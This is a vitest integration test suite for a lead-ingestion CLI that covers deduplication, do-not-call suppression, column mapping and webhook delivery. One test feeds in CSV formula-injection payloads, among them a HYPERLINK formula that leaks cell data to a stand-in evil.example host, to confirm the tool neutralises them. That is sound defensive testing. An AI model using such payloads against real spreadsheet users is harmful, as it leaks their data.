import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import {
  csvRows, csvRowsByName, farCellWorkbook, generateLeadFile, misfiled, readCsvFile, REGRESSION_SEEDS, REPEATED_HEADER_CSV, replayHint, runNode,
  startWebhookReceiver, tempDir, testSeed, type WebhookReceiver,
} from '@leadflow/testkit';

const BIN = fileURLToPath(new URL('../bin/leadflow.js', import.meta.url));

async function leadflow(args: string[], env: Record<string, string>): Promise<{ code: number; stdout: string; stderr: string }> {
  // A hang detector, not a speed limit: 5,000 rows take 13 s of CPU, and 47 to 94 s at a load of 15 to 22 on 2 cores.
  const res = await runNode(BIN, args, { env: { ...env, LOG_LEVEL: '' }, timeoutMs: 600_000 });
  return { ...res, code: res.code ?? -1 };
}

/** Every output row by its row number and the file it is in. */
function dispositions(out: string): Map<number, string> {
  const got = new Map<number, string>();
  for (const [file, disposition] of [['leads', 'accepted'], ['duplicates', 'duplicate'], ['rejected', 'invalid'], ['suppressed', 'suppressed']]) {
    for (const rec of readCsvFile(join(out, `${file}.csv`))) {
      expect(got.has(Number(rec.row)), `row ${rec.row} is in two files`).toBe(false);
      got.set(Number(rec.row), disposition!);
    }
  }
  return got;
}

const seed = testSeed();
const replay = replayHint(seed, 'services/cli/src/leadflow-run.int.test.ts');

describe(`leadflow run (standalone mode), generated files of seed ${seed}`, () => {
  const dir = tempDir('leadflow-run-');
  const env = { LEADFLOW_DATA_DIR: join(dir, 'db') };
  let receiver: WebhookReceiver;
  beforeAll(async () => {
    receiver = await startWebhookReceiver();
  });
  afterAll(async () => {
    await receiver.close();
  });

  let firstAccepted: Map<number, string>;
  let firstLeadIds: Map<string, string>;

  it(`gives every row of a new file the disposition of the rules, in the right output file (seed ${seed})`, async () => {
    const file = generateLeadFile({ seed, rows: 400 });
    writeFileSync(join(dir, 'a.csv'), file.csv);
    writeFileSync(join(dir, 'dnc.txt'), `# national registry extract\n${file.dncNumbers.join('\n')}\n`);
    const out = join(dir, 'out-a');
    const res = await leadflow(['run', join(dir, 'a.csv'), '--dnc', join(dir, 'dnc.txt'), '--webhook', receiver.url, '--out', out, '--supplier', 'acme'], env);
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const count = (d: string) => file.rows.filter((r) => r.expected === d).length;
    expect(res.stdout).toMatch(new RegExp(`; ${count('accepted')} of ${count('accepted')} leads delivered to the webhook -> ${out}\n$`));

    const got = dispositions(out);
    expect(misfiled(file, got), replay).toEqual([]);

    const summary = JSON.parse((await import('node:fs')).readFileSync(join(out, 'summary.json'), 'utf8'));
    expect(summary).toMatchObject({
      rows: 400, accepted: count('accepted'), invalid: count('invalid'), duplicate: count('duplicate'), suppressed: count('suppressed'),
      mapping: { 'Email Address': { field: 'email' }, Phone: { field: 'phone' }, Notes: { field: 'extra' } },
      delivery: { delivered: count('accepted'), failed: 0 },
    });
    expect(summary.jobId).toMatch(/^[0-9a-f-]{36}$/);

    // duplicates name the row they repeat, rejected rows say why and keep the original values
    const dupRows = readCsvFile(join(out, 'duplicates.csv'));
    expect(dupRows.some((d) => d.match_type === 'fuzzy')).toBe(true);
    for (const d of dupRows) {
      const g = file.rows[Number(d.row) - 1]!;
      expect(d.matched_row, `row ${d.row}`).toBe(String((g.duplicateOf as { row: number }).row));
      expect(d.match_type, `row ${d.row}`).toBe(g.matchType);
      if (g.matchType === 'fuzzy') {
        expect(Number(d.score)).toBeGreaterThanOrEqual(0.9);
        // Explained: the row it repeats, the score and the fields that decided.
        expect(d.detail, `row ${d.row}`).toMatch(new RegExp(`same as row ${d.matched_row} \\(score 0\\.9\\d{3}: .*last_name (exact|close|similar|different)`));
      }
    }
    const rejected = readCsvFile(join(out, 'rejected.csv'));
    expect(rejected.every((r) => r.reason!.split(';').includes('NO_CONTACT'))).toBe(true);
    expect(Object.keys(rejected[0]!)).toEqual(['row', 'file', 'reason', 'detail', ...file.header]);

    // the webhook got exactly the accepted leads, once each
    const delivered = receiver.requests.flatMap((r) => JSON.parse(r.body).data.leads as { row: number; email?: string }[]);
    const leads = readCsvFile(join(out, 'leads.csv'));
    expect(delivered.map((l) => l.row).sort((a, b) => a - b)).toEqual(leads.map((l) => Number(l.row)));
    expect(receiver.requests.every((r) => r.headers['content-type'] === 'application/json' && r.headers['webhook-id'])).toBe(true);

    // Household members stay leads, flagged as possible duplicates naming the row they may copy, and why.
    const households = file.rows.filter((r) => r.kind.startsWith('household'));
    expect(households.length).toBeGreaterThan(0);
    const leadAt = new Map(leads.map((l) => [Number(l.row), l]));
    for (const h of households) {
      const lead = leadAt.get(h.row)!;
      expect(lead.tags!.split(';'), `row ${h.row}`).toContain('possible_duplicate');
      expect(lead.reason!.split(';'), `row ${h.row}`).toContain('POSSIBLE_DUPLICATE');
      expect(lead.detail, `row ${h.row}`).toMatch(/kept, flagged for review: row \d+, score 0\.\d{4}: .*another person in the household\?/);
    }

    firstAccepted = new Map(leads.filter((l) => l.email).map((l) => [Number(l.row), l.email!]));
    firstLeadIds = new Map(leads.filter((l) => l.email).map((l) => [l.email!, l.lead_id!]));
  });

  it('finds duplicates against the leads an earlier run stored, naming the stored lead', async () => {
    const earlierEmails = [...firstAccepted.values()];
    const file = generateLeadFile({ seed: seed + 1, rows: 150, earlierEmails });
    writeFileSync(join(dir, 'b.csv'), file.csv);
    writeFileSync(join(dir, 'dnc-b.txt'), file.dncNumbers.join('\n'));
    const out = join(dir, 'out-b');
    const res = await leadflow(['run', join(dir, 'b.csv'), '--dnc', join(dir, 'dnc-b.txt'), '--out', out], env);
    expect(res.code).toBe(0);
    const got = dispositions(out);
    expect(misfiled(file, got), replay).toEqual([]);
    const cross = readCsvFile(join(out, 'duplicates.csv')).filter((d) => d.matched_lead_id);
    expect(cross.length).toBe(file.rows.filter((r) => r.duplicateOf && 'earlierEmail' in r.duplicateOf).length);
    for (const d of cross) expect(d.matched_lead_id).toBe(firstLeadIds.get(d.email!));
  });

  it('finds fuzzy copies of leads an earlier run stored: a typo in the surname, the street abbreviated, another email', async () => {
    const stored = readCsvFile(join(dir, 'out-a', 'leads.csv')).filter((l) => l.first_name && l.last_name && l.street && l.postal_code && l.last_name.length >= 5);
    const originals = stored.slice(0, 12);
    expect(originals.length).toBeGreaterThanOrEqual(5);
    // "Kowalski" → "Kowalksi": the surname's last two letters swapped.
    const typo = (s: string) => `${s.slice(0, -2)}${s.at(-1)}${s.at(-2)}`;
    const lines = originals.map((l, i) =>
      [l.first_name, typo(l.last_name!), `copy${i}.${seed}@elsewhere.example`, l.street!.replace(/\bStreet\b/, 'St'), l.city, l.postal_code]
        .map((v) => `"${(v ?? '').replace(/"/g, '""')}"`)
        .join(','),
    );
    writeFileSync(join(dir, 'c.csv'), `First Name,Last Name,Email,Street,City,Zip\n${lines.join('\n')}\n`);
    const out = join(dir, 'out-c');
    const res = await leadflow(['run', join(dir, 'c.csv'), '--out', out], env);
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const dups = readCsvFile(join(out, 'duplicates.csv'));
    expect(dups.map((d) => [Number(d.row), d.match_type, d.matched_lead_id, d.reason])).toEqual(
      originals.map((l, i) => [i + 1, 'fuzzy', l.lead_id, 'DUP_FUZZY']),
    );
    expect(dups.every((d) => Number(d.score) >= 0.9)).toBe(true);
    expect(readCsvFile(join(out, 'leads.csv'))).toEqual([]);
  });

  it.each([
    ['an empty file', '', /^leadflow run: the file is empty/],
    ['a binary file', Buffer.from([0x01, 0x00, 0x07, 0x00, 0x00, 0x00, 0x02, 0x9f, 0x00]), /^leadflow run: the file is not text/],
    ['a damaged workbook', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00, 0xff, 0x00]), /^leadflow run: the file is damaged: send it again \(no ZIP end-of-directory record/],
    ['an unterminated quote', 'email,name\na@x.com,"Ann\nb@x.com,Bob\n', /^leadflow run: a quoted field is never closed/],
  ])('ends %s with exit code 1 and one line that says what is wrong', async (_what, content, message) => {
    const path = join(dir, 'bad.csv');
    writeFileSync(path, content);
    const res = await leadflow(['run', path, '--out', join(dir, 'out-bad')], env);
    expect(res.code).toBe(1);
    expect(res.stderr.trim().split('\n')).toHaveLength(1);
    expect(res.stderr).toMatch(message);
    expect(res.stderr).not.toMatch(/\bat .*\.js:\d+/);
  });

  it("remembers a supplier's confirmed mapping and uses it for the supplier's next file", async () => {
    const path = join(dir, 'memory.csv');
    writeFileSync(path, 'Contact,Ref,Mail\nAnn Lee,L-1,ann@memory.test\nBob Ray,L-2,bob@memory.test\n');
    const proposed = JSON.parse((await leadflow(['map', path, '--supplier', 'memco'], env)).stdout) as Record<string, { field: string }>;
    expect(proposed.Ref!.field).toBe('extra');

    const confirmed = await leadflow(['map', path, '--supplier', 'memco', '--set', 'Ref=source', '--confirm'], env);
    expect(confirmed.code).toBe(0);
    const run = await leadflow(['run', path, '--supplier', 'memco', '--out', join(dir, 'out-memory')], env);
    expect(run.code).toBe(0);
    const summary = JSON.parse((await import('node:fs')).readFileSync(join(dir, 'out-memory', 'summary.json'), 'utf8'));
    expect(summary.mapping).toEqual({
      Contact: { field: 'full_name', confidence: 0.99 },
      Ref: { field: 'source', confidence: 0.99 },
      Mail: { field: 'email', confidence: 0.99 },
    });
    expect(readCsvFile(join(dir, 'out-memory', 'leads.csv')).map((l) => l.source)).toEqual(['L-1', 'L-2']);

    const wrong = await leadflow(['map', path, '--supplier', 'memco', '--set', 'Ref=favourite_colour'], env);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/^leadflow: --set "Ref=favourite_colour": "favourite_colour" is not a lead field/);
  });

  it('gives every lead its derived fields in leads.csv: email and phone type, time zone, industry, seniority (docs/enrichment.md)', async () => {
    const path = join(dir, 'enrich.csv');
    writeFileSync(path, [
      'Name,Email,Phone,Company,Job Title,Industry,State,Country',
      'Ann Lee,ann@gmial.com,(212) 555-0123,Bluewater Plumbing LLC,VP of Sales,,NY,US',
      'Bo Day,info@harbordental.test,+44 7400 123456,Harbor Dental,Office Manager,Hospital & Health Care,,GB',
    ].join('\n'));
    const run = await leadflow(['run', path, '--out', join(dir, 'out-enrich')], env);
    expect(run.code).toBe(0);
    const leads = readCsvFile(join(dir, 'out-enrich', 'leads.csv'));
    const fields = ['email_type', 'email_suggestion', 'phone_type', 'timezone', 'industry', 'industry_confidence', 'seniority', 'department'] as const;
    expect(leads.map((l) => fields.map((f) => l[f]))).toEqual([
      ['free', 'gmail.com', 'unknown', 'America/New_York', '23', '0.75', 'vp', 'sales'],
      ['role', '', 'mobile', 'Europe/London', '62', '0.99', 'manager', 'operations'],
    ]);
    // The clock is the real one here: the unit test of the stage fixes it.
    expect(leads.map((l) => ['true', 'false'].includes(l.callable_now ?? ''))).toEqual([true, true]);
  });

  it('stops at the row limit a deployment sets, keeping the rows within it', async () => {
    const path = join(dir, 'limit.csv');
    writeFileSync(path, 'email\na@limit.test\nb@limit.test\nc@limit.test\n');
    const res = await leadflow(['run', path, '--out', join(dir, 'out-limit')], { ...env, INGEST_MAX_ROWS: '2' });
    expect(res.code).toBe(1);
    expect(res.stderr).toMatch(/^leadflow run: the file has more rows than the limit: split it into smaller files \(the limit is 2 rows\) \[TOO_MANY_ROWS\]; 2 rows: 2 accepted/);
    const bad = await leadflow(['run', path], { ...env, INGEST_MAX_ROWS: 'lots' });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/INGEST_MAX_ROWS must be an integer, got "lots"/);
  });

  it('writes every cell a spreadsheet would run as a formula with a quote in front, in all four files, and plain numbers as they are', async () => {
    writeFileSync(join(dir, 'formulas.csv'), [
      'first_name,last_name,email,phone,company,@Note',
      'Ann,Lee,ann@formula.test,+1 201 555 0101,=1+1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
      'Ann,Lee,ann@formula.test,,@SUM(A1:A9),-2+3',
      '"=SUM(1,2)",,,,,+cmd',
      'Bob,Ray,bob@formula.test,(201) 555-0199,-1-1,x',
      '',
    ].join('\r\n'));
    writeFileSync(join(dir, 'formulas-dnc.txt'), '2015550199\n');
    const out = join(dir, 'out-formulas');
    const res = await leadflow(['run', join(dir, 'formulas.csv'), '--dnc', join(dir, 'formulas-dnc.txt'), '--out', out], { LEADFLOW_DATA_DIR: join(dir, 'formulas-db') });
    expect([res.code, res.stderr]).toEqual([0, '']);
    const bytes = (kind: string) => readFileSync(join(out, `${kind}.csv`), 'utf8');
    const [leadsHeader, lead] = bytes('leads').split('\r\n');
    expect(leadsHeader!.endsWith(`,original,"'@Note"`)).toBe(true);
    expect(lead).toContain(`,+12015550101,`);
    expect(lead).toContain(`,"'=1+1",`);
    expect(lead!.endsWith(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)).toBe(true);
    expect(bytes('duplicates').split('\r\n')[1]).toContain(`,"'@SUM(A1:A9)",`);
    expect(bytes('rejected').split('\r\n')).toEqual([
      `row,file,reason,detail,first_name,last_name,email,phone,company,"'@Note"`,
      `3,formulas.csv,NO_CONTACT,"no usable contact: give a valid email, a valid phone number, or a street with a city or postal code","'=SUM(1,2)",,,,,"'+cmd"`,
      '',
    ]);
    expect(bytes('suppressed').split('\r\n')[1]).toMatch(/^4,formulas\.csv,DNC_INTERNAL,Bob,Ray,.*,\+12015550199,.*,"'-1-1",/);
    // Read back as a spreadsheet would, no cell of any file starts a formula but a plain number.
    for (const kind of ['leads', 'duplicates', 'rejected', 'suppressed']) {
      const runnable = csvRows(bytes(kind)).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)$/.test(cell));
      expect(runnable, kind).toEqual([]);
    }
  });

  it('keeps both values of two columns with the same header, named apart, in every output file', async () => {
    writeFileSync(join(dir, 'notes.csv'), REPEATED_HEADER_CSV);
    const out = join(dir, 'out-notes');
    const res = await leadflow(['run', join(dir, 'notes.csv'), '--out', out], env);
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const leads = csvRowsByName(readFileSync(join(out, 'leads.csv'), 'utf8'));
    expect(leads.map((l) => [l.row, l.email, l.Note, l['Note (2)'], l['column 5'], l['Note (3)']])).toEqual([
      ['1', 'ann@x.com', 'first', 'second', 'third', 'fourth'],
      ['3', 'bob@y.com', 'b1', 'b2', 'b3', 'b4'],
    ]);
    const [rejectedHeader, ...rejected] = csvRows(readFileSync(join(out, 'rejected.csv'), 'utf8'));
    expect(rejectedHeader).toEqual(['row', 'file', 'reason', 'detail', 'Email', 'Note', 'Phone', 'Note (2)', 'column 5', 'Note (3)']);
    expect(rejected.map((r) => [r[0], ...r.slice(4)])).toEqual([['2', '', 'only a note', '', 'again', '', '']]);
    const summary = JSON.parse(readFileSync(join(out, 'summary.json'), 'utf8'));
    expect(Object.keys(summary.mapping)).toEqual(['Email', 'Note', 'Phone', 'Note (2)', 'column 5', 'Note (3)']);
  });

  it('fails a workbook whose cell reference lies outside any worksheet in one line with exit code 1, instead of a V8 crash (133)', async () => {
    writeFileSync(join(dir, 'far.xlsx'), farCellWorkbook());
    const res = await leadflow(['run', join(dir, 'far.xlsx'), '--out', join(dir, 'out-far')], env);
    expect(res.code).toBe(1);
    expect(res.stderr.trim().split('\n')).toEqual([
      expect.stringMatching(/^leadflow run: the file is damaged: send it again \(sheet "Leads" has a cell reference "ZZZZZZZ3" outside any worksheet .*\[FILE_CORRUPT\]/),
    ]);
  });

  it('answers an unknown option with exit code 2 and the usage, and --help with the usage', async () => {
    const unknown = await leadflow(['run', join(dir, 'a.csv'), '--fast'], env);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/^leadflow: unknown option "--fast"/);
    const help = await leadflow(['run', '--help'], env);
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/^usage:\n  leadflow run FILE/);
  });

  it('prints the proposed mapping of a file as JSON with confidence and evidence (leadflow map)', async () => {
    const path = join(dir, 'map.csv');
    writeFileSync(path, 'Lead export\n\nVorname;Nachname;Column 3;Telefon\nAnn;Lee;ann@acme.com;+49 30 1234567\nBob;Ray;bob@x.org;+49 30 7654321\n');
    const res = await leadflow(['map', path], env);
    expect(res.code).toBe(0);
    const mapping = JSON.parse(res.stdout) as Record<string, { field: string; confidence: number; evidence: string[] }>;
    expect(Object.fromEntries(Object.entries(mapping).map(([h, m]) => [h, m.field]))).toEqual({
      Vorname: 'first_name', Nachname: 'last_name', 'Column 3': 'email', Telefon: 'phone',
    });
    expect(mapping['Column 3']!.evidence).toEqual(['100% of values look like emails']);
    expect(mapping.Vorname!.confidence).toBeGreaterThan(0.9);

    writeFileSync(path, '');
    const empty = await leadflow(['map', path], env);
    expect(empty.code).toBe(1);
    expect(empty.stderr).toMatch(/^leadflow map: the file is empty.*\[FILE_EMPTY\]\n$/);
  });

  it('counts every phone and email column: the first valid is the lead\'s, the others alternates that dedup and DNC see', async () => {
    const own = { LEADFLOW_DATA_DIR: join(dir, 'db-alternates') };
    const hook = await startWebhookReceiver();
    try {
      writeFileSync(join(dir, 'alternates-dnc.txt'), '(415) 555-0104\n');
      const path = join(dir, 'alternates.csv');
      writeFileSync(path, [
        'Name,Phone,Mobile,Email,Email 2,State',
        '"O\'Brien, Micheel",,(415) 555-0101,,,Calif.', // the only number in the second column
        '"de la Cruz, Juan",(415) 555-0102,(415) 555-0103,juan@example.com,Juan.Cruz@Gmail.com,Mass.',
        'Ann Lee,(415) 555-0199,(415) 555-0102,,,', // her mobile is row 2's phone
        'Bo Day,(415) 555-0105,(415) 555-0104,bo@example.com,,', // his mobile is on the DNC list
        'Cy Do,12,,,,', // no valid contact in any column
        'Di Eo,,,,juancruz@gmail.com,', // row 2's second email, as its key reads it
      ].join('\n'));
      const out = join(dir, 'out-alternates');
      const res = await leadflow(['run', path, '--dnc', join(dir, 'alternates-dnc.txt'), '--webhook', hook.url, '--out', out], own);
      expect(res.stderr).toBe('');
      expect(res.code).toBe(0);

      const summary = JSON.parse((await import('node:fs')).readFileSync(join(out, 'summary.json'), 'utf8'));
      expect(summary).toMatchObject({
        rows: 6, accepted: 2, duplicate: 2, suppressed: 1, invalid: 1,
        mapping: { Phone: { field: 'phone' }, Mobile: { field: 'phone' }, Email: { field: 'email' }, 'Email 2': { field: 'email' } },
      });
      const leads = readCsvFile(join(out, 'leads.csv'));
      expect(leads.map((l) => [l.row, l.first_name, l.last_name, l.phone, l.alternate_phones, l.email, l.alternate_emails, l.state])).toEqual([
        ['1', 'Micheel', "O'Brien", '+14155550101', '', '', '', 'CA'],
        ['2', 'Juan', 'de la Cruz', '+14155550102', '+14155550103', 'juan@example.com', 'juan.cruz@gmail.com', 'MA'],
      ]);
      const dups = readCsvFile(join(out, 'duplicates.csv'));
      expect(dups.map((d) => [d.row, d.matched_row, d.match_type, d.reason, d.alternate_phones])).toEqual([
        ['3', '2', 'exact_phone', 'DUP_EXACT_PHONE', '+14155550102'],
        ['6', '2', 'exact_email', 'DUP_EXACT_EMAIL', ''],
      ]);
      expect(dups[0]!.detail).toContain('same as row 2 (the phone of column "Mobile")');
      const suppressed = readCsvFile(join(out, 'suppressed.csv'));
      expect(suppressed.map((r) => [r.row, r.reason, r.phone, r.alternate_phones])).toEqual([['4', 'DNC_INTERNAL', '+14155550105', '+14155550104']]);
      expect(readCsvFile(join(out, 'rejected.csv')).map((r) => [r.row, r.reason])).toEqual([['5', 'INVALID_PHONE;NO_CONTACT']]);

      const delivered = hook.requests.flatMap((r) => JSON.parse(r.body).data.leads as { row: number; alternates?: unknown }[]);
      expect(delivered.find((l) => l.row === 2)?.alternates).toEqual({ emails: ['juan.cruz@gmail.com'], phones: ['+14155550103'] });
    } finally {
      await hook.close();
    }
  });

  it('reads an Excel workbook with several sheets, the chosen one or all of them', async () => {
    const wb = new ExcelJS.Workbook();
    const notes = wb.addWorksheet('Notes');
    notes.addRow(['Supplier: Acme, March']);
    for (const [name, n] of [['Leads A', 1], ['Leads B', 2]] as const) {
      const ws = wb.addWorksheet(name);
      ws.addRow(['Vorname', 'Nachname', 'E-Mail', 'Telefon', 'State', 'ZIP']);
      ws.addRow(['Jürgen', 'Müller', `juergen${n}@beispiel.de`, 12015550100 + n, 'NJ', 7030]);
      ws.addRow(['Zoë', "o'brien", `zoe${n}@example.com`, '', '', '']);
    }
    const path = join(dir, 'leads.xlsx');
    await wb.xlsx.writeFile(path);

    const one = await leadflow(['run', path, '--sheet', 'Leads B', '--out', join(dir, 'out-xlsx-b')], env);
    expect(one.code).toBe(0);
    const leads = readCsvFile(join(dir, 'out-xlsx-b', 'leads.csv'));
    expect(leads.map((l) => [l.row, l.first_name, l.last_name, l.email, l.phone, l.postal_code])).toEqual([
      ['1', 'Jürgen', 'Müller', 'juergen2@beispiel.de', '+12015550102', '07030'],
      ['2', 'Zoë', "O'Brien", 'zoe2@example.com', '', ''],
    ]);

    const all = await leadflow(['run', path, '--sheet', '*', '--out', join(dir, 'out-xlsx-all')], env);
    expect(all.code).toBe(0);
    const summary = JSON.parse((await import('node:fs')).readFileSync(join(dir, 'out-xlsx-all', 'summary.json'), 'utf8'));
    // The Notes sheet has no table; A's two leads are new, B's were stored by the run above.
    expect(summary).toMatchObject({ rows: 4, accepted: 2, duplicate: 2 });
  });
});

describe('leadflow run on the generated files that once got a row wrong (REGRESSION_SEEDS)', () => {
  it.each(REGRESSION_SEEDS.map((r) => [r.seed, r] as const))('files every row of generated seed %i as the rules say', async (_, r) => {
    const dir = tempDir(`leadflow-seed-${r.seed}-`);
    const file = generateLeadFile({ seed: r.seed, rows: r.rows });
    writeFileSync(join(dir, 'leads.csv'), file.csv);
    writeFileSync(join(dir, 'dnc.txt'), file.dncNumbers.join('\n'));
    const out = join(dir, 'out');
    const res = await leadflow(['run', join(dir, 'leads.csv'), '--dnc', join(dir, 'dnc.txt'), '--out', out], { LEADFLOW_DATA_DIR: join(dir, 'db') });
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const why = `generated seed ${r.seed}, ${r.rows} rows, which once got wrong: ${r.found}; replay with: npx vitest run --project integration services/cli/src/leadflow-run.int.test.ts -t "seed ${r.seed} "`;
    expect(misfiled(file, dispositions(out)), why).toEqual([]);
  }, 600_000);
});
